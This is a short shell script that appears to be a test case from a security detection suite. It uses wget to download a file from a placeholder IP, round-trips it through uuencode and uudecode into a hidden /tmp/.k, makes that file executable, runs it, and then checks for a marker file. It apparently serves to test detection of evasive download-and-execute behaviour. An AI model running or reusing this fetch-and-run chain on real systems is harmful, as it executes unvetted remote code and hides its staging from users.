#!/bin/sh
. /opt/case/case.sh

wget -qO- http://203.0.113.10/programs/marker | uuencode -m k >/tmp/mail
uudecode -o /tmp/.k </tmp/mail
chmod 700 /tmp/.k
/tmp/.k
test -e /tmp/reached
took_place
